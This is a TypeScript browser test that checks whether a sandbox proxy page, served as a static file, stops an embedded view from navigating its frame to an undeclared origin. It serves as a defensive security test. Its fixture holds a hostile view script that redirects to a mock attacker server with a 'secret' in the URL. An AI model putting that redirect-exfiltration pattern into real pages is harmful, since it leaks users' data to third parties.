/**
 * The shipped static proxy page (dist/sandbox-proxy.html, package export "./sandbox-proxy.html")
 * served as a plain file, without the Node helper's CSP header: the proxy puts the view's policy
 * on its own document before it loads the view, so its `frame-src` stops the view from navigating
 * its frame to an undeclared origin with data in the URL (the frame's `csp` attribute alone would
 * refuse to show the page, but the request would already have left). The Node helper's page is
 * the control.
 */
import { createServer, type Server } from 'node:http'
import { readFileSync } from 'node:fs'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { launchBrowser, type TestBrowser } from './harness/browser.js'
import { createSandboxHandler } from '../../src/host/sandbox-server.js'

const PAGE = readFileSync('dist/sandbox-proxy.html', 'utf8')
let browser: TestBrowser
const servers: Server[] = []
const listen = (handler: Parameters<typeof createServer>[1]) =>
  new Promise<number>((done) => {
    const server = createServer(handler)
    servers.push(server)
    server.listen(0, '127.0.0.1', () => done((server.address() as { port: number }).port))
  })

let hostPort = 0
let staticPort = 0
let helperPort = 0
let attackerPort = 0
const leaks: string[] = []

beforeAll(async () => {
  browser = await launchBrowser()
  attackerPort = await listen((req, res) => {
    leaks.push(req.url ?? '')
    res.writeHead(200, { 'content-type': 'text/html' }).end('gotcha')
  })
  hostPort = await listen((req, res) => {
    const url = new URL(req.url ?? '/', 'http://x')
    const proxy = `http://localhost:${url.searchParams.get('proxyPort')}/sandbox-proxy.html`
    const view = `<!doctype html><script>location.href = 'http://127.0.0.1:${attackerPort}/leak?tag=${url.searchParams.get('tag')}&secret=' + encodeURIComponent('tool result')</script>`
    res.writeHead(200, { 'content-type': 'text/html' }).end(`<!doctype html><body><script>
      const proxy = ${JSON.stringify(proxy)} + '?host=' + encodeURIComponent(location.origin)
      const f = document.createElement('iframe')
      f.setAttribute('sandbox', 'allow-scripts allow-same-origin'); f.setAttribute('referrerpolicy', 'origin'); f.src = proxy
      document.body.appendChild(f)
      addEventListener('message', (e) => {
        if (e.source === f.contentWindow && e.data && e.data.method === 'ui/notifications/sandbox-proxy-ready')
          f.contentWindow.postMessage({ jsonrpc: '2.0', method: 'ui/notifications/sandbox-resource-ready', params: { html: ${JSON.stringify(view).replace(/</g, "\\u003c")} } }, new URL(proxy).origin)
      })
    </script></body>`)
  })
  staticPort = await listen((req, res) => res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(PAGE))
  helperPort = await listen(createSandboxHandler({ hostOrigins: [`http://127.0.0.1:${hostPort}`], page: PAGE }))
})
afterAll(async () => {
  await browser?.close()
  for (const server of servers) server.close()
})

async function run(tag: string, proxyPort: number): Promise<string[]> {
  const t = await browser.newPage()
  try {
    await t.page.goto(`http://127.0.0.1:${hostPort}/host.html?tag=${tag}&proxyPort=${proxyPort}`)
    await t.page.waitForTimeout(1500)
    return leaks.filter((leak) => leak.includes(`tag=${tag}`))
  } finally {
    await t.close()
  }
}

describe('a view under the default CSP navigates its own frame to an undeclared origin', () => {
  test('control: proxy served by the Node helper (header frame-src none): nothing leaves', async () => {
    expect(await run('helper', helperPort)).toEqual([])
  })
  test('proxy served as the shipped static file: nothing must leave either', async () => {
    expect(await run('static', staticPort)).toEqual([])
  })
})
